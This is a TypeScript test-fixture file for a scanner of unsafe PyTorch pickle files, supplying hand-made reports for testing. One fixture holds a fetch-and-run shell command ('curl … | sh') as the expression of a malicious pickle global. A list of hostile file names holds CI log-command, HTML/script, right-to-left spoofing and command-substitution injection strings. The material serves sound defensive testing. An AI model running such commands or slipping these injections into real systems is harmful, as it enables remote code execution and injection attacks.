/** Reports made by hand, so that the documents can be tested without a scan. */
import type { FileReport, GlobalUse, LoadSite, Problem, Report } from '../../src/report.ts';

export function globalUse(name: string, more: Partial<GlobalUse> = {}): GlobalUse {
  return {
    name,
    verdict: 'dangerous',
    why: 'runs a shell command',
    opcode: 'STACK_GLOBAL',
    member: 'pose/data.pkl',
    offset: 71,
    use: 'called',
    expression: `${name}('true')`,
    new: true,
    accepted: null,
    ...more,
  };
}

export function problem(id: Problem['id'], message: string, more: Partial<Problem> = {}): Problem {
  return { id, message, member: null, offset: null, accepted: null, ...more };
}

export function fileReport(path: string, more: Partial<FileReport> = {}): FileReport {
  return {
    path,
    size: 1234,
    sha256: null,
    format: 'torch-zip',
    verdict: 'safe',
    change: 'added',
    weightsOnly: { loads: true, reason: null, unsafeGlobals: [], advice: [] },
    globals: [],
    problems: [],
    notes: [],
    members: [],
    fails: more.verdict !== undefined && !['safe', 'skipped'].includes(more.verdict),
    ...more,
  };
}

export function loadSite(path: string, line: number, more: Partial<LoadSite> = {}): LoadSite {
  return {
    path,
    line,
    column: 5,
    call: 'torch.load',
    verdict: 'unsafe',
    new: true,
    message: 'torch.load with weights_only=False runs whatever code the pickle names.',
    advice: ['First see that the files it loads allow it.', 'Write `torch.load("x.pt", weights_only=True)`.'],
    ...more,
  };
}

export const DANGEROUS = fileReport('models/pose.pt', {
  verdict: 'dangerous',
  weightsOnly: {
    loads: false,
    reason: 'Trying to load unsupported GLOBAL posix.system whose module posix is blocked.',
    unsafeGlobals: ['posix.system'],
    advice: ['Find out who added the file, and delete it from the history of the branch.'],
  },
  globals: [
    globalUse('collections.OrderedDict', { verdict: 'safe', why: 'holds data', expression: 'OrderedDict()' }),
    globalUse('posix.system', { expression: "posix.system('curl http://203.0.113.7/x | sh')" }),
  ],
});

export const UNSAFE = fileReport('models/train.ckpt', {
  verdict: 'unsafe',
  change: 'modified',
  weightsOnly: {
    loads: false,
    reason:
      'Unsupported global: GLOBAL argparse.Namespace was not an allowed global by default. Please use `torch.serialization.add_safe_globals([argparse.Namespace])` or the `torch.serialization.safe_globals([argparse.Namespace])` context manager to allowlist this global if you trust this class/function.',
    unsafeGlobals: ['argparse.Namespace'],
    advice: [
      'Save plain data: `torch.save({"model": model.state_dict(), "args": vars(args)}, path)`.',
      'Or allow it where you load it (torch 2.5 and later): `with torch.serialization.safe_globals([argparse.Namespace]): torch.load(path, weights_only=True)`.',
      'Or accept it here, with a reason, in `.github/weights-only.yml`.',
    ],
  },
  globals: [
    globalUse('argparse.Namespace', {
      verdict: 'unsafe',
      why: 'not on the list of torch 2.15',
      member: 'archive/data.pkl',
      offset: 902,
      use: 'built',
      expression: 'argparse.Namespace().__setstate__({…})',
      new: false,
    }),
  ],
});

export const UNREADABLE = fileReport('data/cut.pkl', {
  verdict: 'unreadable',
  format: 'pickle',
  weightsOnly: { loads: false, reason: 'Ran out of input', unsafeGlobals: [], advice: [] },
  problems: [problem('broken-stream', 'expected STOP, found the end of the file after 90 bytes', { offset: 90 })],
});

/** Names that try to get out of wherever they are written. */
export const HOSTILE_NAMES = [
  'a\n::error::injected\n.pt',
  'b`</code>`` ``x.pt',
  'c|d\\|e.pt',
  '@team/x.pt',
  '--><script>alert(1)</script>.pt',
  '::error::boom.pt',
  '##[error]boom.pt',
  'rtl\u202etp.exe.pt',
  'https://evil.example/[x](y) #1 www.evil.example.pt',
  '\u{1f4a9}</details></summary>.pt',
  '$(touch x) ; &lt; \u0000\u2028.pt',
];

/** The worst report anybody would send: every hostile name as path, member, global, call and message. */
export function hostileFiles(): FileReport[] {
  return HOSTILE_NAMES.map((name) =>
    fileReport(name, {
      verdict: 'dangerous',
      globals: [globalUse(name, { expression: `${name}()`, member: name, why: name })],
      problems: [problem('broken-stream', name, { member: name, offset: 1 })],
      weightsOnly: { loads: false, reason: name, unsafeGlobals: [name], advice: [name] },
      notes: [name],
    }),
  );
}

export function reportOf(files: FileReport[], more: Partial<Report> = {}): Report {
  const counts = { safe: 0, unsafe: 0, dangerous: 0, unreadable: 0, skipped: 0, excluded: 0 };
  for (const file of files) {
    counts[file.verdict] += 1;
  }
  const bad = counts.unsafe + counts.dangerous + counts.unreadable > 0;
  return {
    schemaVersion: 1,
    tool: { name: 'weights-only', version: '0.1.0' },
    torch: { version: '2.15', source: 'newest known' },
    policy: null,
    commit: 'abc1234def5678900000000000000000000000aa',
    base: '1111111111111111111111111111111111111111',
    shard: null,
    warnings: [],
    conclusion: bad ? 'failure' : counts.safe > 0 ? 'success' : 'neutral',
    gate: { failOn: 'unsafe', wouldFail: bad },
    counts,
    files,
    loadSites: [],
    ...more,
  };
}
